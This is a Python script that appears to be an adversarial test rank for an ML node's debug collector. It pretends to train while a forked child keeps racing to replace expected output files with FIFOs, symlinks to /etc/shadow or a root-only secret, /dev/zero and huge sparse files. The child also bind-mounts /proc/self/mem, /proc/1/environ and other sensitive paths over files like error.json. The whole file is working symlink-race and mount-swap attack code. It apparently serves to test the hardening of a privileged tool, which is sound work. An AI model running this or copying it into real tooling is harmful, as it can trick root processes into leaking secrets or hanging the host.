"""A rank in namespaces of its own, as root there, whose learned places change all the while: what is mounted on them, and what lies there.

usage: flipping.py LIBRARY, with the variable SECRET: a file that only the node's root may read.
"""

import ctypes
import itertools
import mmap
import os
import sys
import time
from contextlib import suppress
from pathlib import Path

BIND, DETACH = 4096 | 16384, 2  # MS_BIND | MS_REC, MNT_DETACH
FIXED = ("error.json", "metrics.jsonl", "step_9")
CHANGING = ("fr_0", "fr_1", "events.out.tfevents.1.x")
SHARED = ("", ".stacks", ".flight", ".oom", ".answer")
libc = ctypes.CDLL(None)


def lay(path: str, kind: int, secret: str) -> None:
    """Put a FIFO, a link to a secret, to a device, or a giant in place of what is there."""
    half = f"{path}.half"
    with suppress(OSError):
        if kind == 0:
            os.mkfifo(half, 0o666)
        elif kind == 3:
            Path(half).write_bytes(b"x")
            os.truncate(half, 1 << 40)
        else:
            os.symlink((secret, "/dev/zero", "/etc/shadow")[kind % 3], half)
        os.rename(half, path)


def flip(folder: Path, secret: str) -> None:
    """For ever; says how often it did, and how often a mount went well."""
    targets = [secret, "/etc/shadow", "/dev/zero", "/proc/self/mem", "/proc/1/environ", "/etc", "/proc"]  # fmt: skip
    start = Path("/proc/self/stat").read_text().rpartition(")")[2].split()[19]
    shared = [f"/dev/shm/mldebug-{os.getppid()}-{start}{end}" for end in SHARED]
    mounted = 0
    for turn in itertools.count():
        for number, path in enumerate([*(str(folder / name) for name in CHANGING), *shared]):
            lay(path, (turn + number) % 5, secret)
        for number, name in enumerate(FIXED):
            target = targets[(turn + number) % len(targets)].encode()
            mounted += libc.mount(target, str(folder / name).encode(), None, BIND, None) == 0
        time.sleep(0.01)
        for name in FIXED:
            libc.umount2(str(folder / name).encode(), DETACH)
        if turn % 50 == 0:
            print(f"flipped {turn} times, mounted {mounted}", flush=True)


def main() -> None:
    """Step for ever, while a child flips."""
    library = Path(sys.argv[1])
    with library.open("rb") as file:
        kept = mmap.mmap(file.fileno(), 0, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_EXEC)
    if os.fork() == 0:
        flip(library.parent, os.environ["SECRET"])
    for step in itertools.count():
        print(f"step {step} loss 0.5", flush=True)
        time.sleep(0.05)
    kept.close()


if __name__ == "__main__":
    main()
